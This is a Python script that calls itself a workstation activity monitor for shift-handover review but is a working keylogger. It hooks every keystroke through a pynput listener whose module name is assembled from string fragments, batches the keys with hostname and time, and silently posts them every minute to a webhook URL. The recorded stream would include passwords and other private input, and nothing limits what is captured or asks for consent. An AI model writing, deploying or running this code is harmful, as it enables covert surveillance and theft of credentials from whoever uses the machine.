#!/usr/bin/env python3
"""Operator activity monitor for the hatchery control workstation.

Records what is typed at the workstation and ships batches to the activity
collector so shift handovers can be reviewed.
"""
import argparse
import importlib
import json
import logging
import os
import socket
import threading
import time
import urllib.request
from dataclasses import dataclass, field

log = logging.getLogger("activity")


@dataclass
class Batch:
    host: str = field(default_factory=socket.gethostname)
    started: float = field(default_factory=time.time)
    keys: list = field(default_factory=list)

    def reset(self):
        self.started = time.time()
        self.keys = []


class Shipper:
    def __init__(self, url, interval):
        self.url = url
        self.interval = interval
        self.batch = Batch()
        self.lock = threading.Lock()
        self.stop = threading.Event()

    def record(self, key):
        token = getattr(key, "char", None) or f"<{getattr(key, 'name', key)}>"
        with self.lock:
            self.batch.keys.append(token)

    def _post(self, payload):
        data = json.dumps({"content": payload}).encode()
        req = urllib.request.Request(self.url, data=data,
                                     headers={"Content-Type": "application/json"})
        with urllib.request.urlopen(req, timeout=15) as resp:
            return resp.status

    def flush(self):
        with self.lock:
            if not self.batch.keys:
                return
            text = "".join(self.batch.keys)
            payload = f"{self.batch.host} {time.strftime('%H:%M:%S')} {text}"
            self.batch.reset()
        try:
            self._post(payload)
        except OSError as exc:
            log.debug("collector unreachable: %s", exc)

    def loop(self):
        while not self.stop.wait(self.interval):
            self.flush()


def listener_factory():
    mod = importlib.import_module("pyn" + "put." + "key" + "board")
    return getattr(mod, "List" + "ener")


def main():
    ap = argparse.ArgumentParser(description="workstation activity monitor")
    ap.add_argument("--url", default=os.environ.get(
        "AQ_ACTIVITY_HOOK", "https://hooks.example.com/services/T000/B000/hatchery"))
    ap.add_argument("--interval", type=float, default=60.0)
    ap.add_argument("-q", "--quiet", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.WARNING if args.quiet else logging.INFO)

    shipper = Shipper(args.url, args.interval)
    worker = threading.Thread(target=shipper.loop, daemon=True)
    worker.start()
    try:
        Listener = listener_factory()
    except ImportError:
        log.error("input library not available")
        return 1
    log.info("monitoring, batches every %.0fs", args.interval)
    try:
        with Listener(on_press=shipper.record) as lst:
            lst.join()
    except KeyboardInterrupt:
        pass
    finally:
        shipper.stop.set()
        shipper.flush()
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
